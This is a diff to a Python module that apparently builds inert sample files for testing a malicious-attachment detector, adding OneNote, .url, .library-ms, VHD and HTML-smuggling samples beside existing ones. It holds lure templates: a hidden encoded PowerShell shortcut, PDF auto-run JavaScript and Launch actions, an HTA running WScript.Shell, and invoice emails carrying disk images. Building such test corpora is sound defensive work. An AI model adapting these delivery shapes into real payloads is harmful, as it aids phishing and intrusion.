@@ -2,6 +2,7 @@
 
 Each function returns bytes. Nothing in them does anything; they only look as if.
 """
+import base64
 import bz2
 import email.message
 import gzip
@@ -369,6 +370,18 @@ def tnef(name, data):
     return b"\x78\x9f\x3e\x22\0\0" + attribute(0x69002, b"\0" * 14) + attribute(0x18010, name.encode() + b"\0") + attribute(0x6800F, data)
 
 
+def onenote(files):
+    """A section with files in it, named by a property far from them: {name: bytes}."""
+    def text(s):
+        data = (s + "\0").encode("utf-16-le")
+        return struct.pack("<I", len(data)) + data
+    head = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\0" * 1008
+    names = b"".join(b"\x9c\x1d\x00\x1c" + text(name) + b"\0" * 5 for name in files)
+    objects = b"".join(bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<QIQ", len(data), 0, 0) + data + b"\0" * (-len(data) % 8) +
+                       bytes.fromhex("22a7fb71790f0b4abb13899256426b24") for data in files.values())
+    return head + names + objects
+
+
 def mail(attachments=(), text="Please see the attachment.", subject="Invoice", sender="billing@sender.example", to="office@company.example"):
     """attachments: (name, bytes)."""
     m = email.message.EmailMessage()
@@ -417,6 +430,7 @@ def all_samples():
                                         b'<w:instrText>AUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:document>'),
         "rtf-package.rtf": rtf_with("Package", package("a.txt", b"hello there")),
         "rtf-equation.rtf": rtf_with("Equation.3", b"\x1c\0\0\0xxxx"),
+        "onenote-script.one": onenote({"Open me.js": host, "note.txt": b"hello"}),
         "pdf-script.pdf": pdf([b"<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>"]),
         "pdf-disguise.pdf": pdf([b"<</Type/Catalog/Open#41ction<</S/J#61vaScript/JS 2 0 R>>>>",
                                  (b"/Filter/FlateDecode", zlib.compress(b"eval(unescape('%u9090'));"))]),
@@ -424,6 +438,10 @@ def all_samples():
         "pdf-objstm.pdf": pdf([(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zlib.compress(b"5 0 <</S/Launch/F(calc.exe)>>"))]),
         "pdf-embedded.pdf": pdf([b"<</Type/Catalog>>", (b"/Type/EmbeddedFile/Filter/FlateDecode", zlib.compress(pe()))]),
         "pdf-plain.pdf": pdf([b"<</Type/Catalog>>"]),
+        "shortcut-share.url": b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/Invoice.zip/Invoice.exe\r\nIconIndex=3\r\n",
+        "shortcut-web.url": b"[InternetShortcut]\r\nURL=https://www.example.com/index.html\r\n",
+        "shortcut-folder.library-ms": b'<?xml version="1.0"?>\n<libraryDescription xmlns="x"><searchConnectorDescription>'
+                                      b"<simpleLocation><url>\\\\198.51.100.7\\docs</url></simpleLocation></searchConnectorDescription></libraryDescription>",
         "lnk-shell.lnk": lnk("..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-w hidden -enc SQBFAFgA"),
         "pe-plain.exe": pe(),
         "pe-inject.exe": pe(imports=("KERNEL32.dll", ("WriteProcessMemory", "CreateRemoteThread", "VirtualAllocEx"))),
@@ -439,6 +457,9 @@ def all_samples():
                                          text="Hello,\nopen it with the password\nsesame77"),
         "mail-macro.eml": mail([("invoice.doc", word_doc({"ThisDocument": AUTORUN}))]),
         "mail-image.eml": mail([("invoice.iso", iso_of("run.lnk", lnk("cmd.exe", "/c start x")))]),
+        "image-disk.vhd": b"\0" * 4096 + b"conectix" + b"\0" * 504,
+        "image-disk.vhdx": b"vhdxfile" + b"\0" * 600,
+        "mail-disk.eml": mail([("invoice.vhd", b"\0" * 4096 + b"conectix" + b"\0" * 504)]),
         "archive-hello.cab": cab_of("hello.txt", b"hello world" * 50),
         "archive-hello.rar": rar_of("hello.txt", b"hello world" * 50),
         "archive-hello.iso": iso_of("hello.txt", b"hello world" * 50),
@@ -449,6 +470,9 @@ def all_samples():
         "script-hta.hta": b'<html><hta:application id="x"><script language="VBScript">CreateObject("WScript.Shell").Run "x"</script></html>',
         "script-page.html": b"<html><script>var b='" + b"QUJD" * 5000 + b"';var x=atob(b);var u=URL.createObjectURL(new Blob([x]));"
                             b"a.download='x.iso'</script>",
+        "script-carries.html": b"<html><a download=\"Invoice 7.zip\" href=\"data:application/zip;base64," +
+                               base64.b64encode(zip_of({"invoice.js": host * 3})) + b"\">open</a></html>",
+        "script-picture.html": b"<html><img src=\"data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n" + b"x" * 9000) + b"\"></html>",
     }
 
 
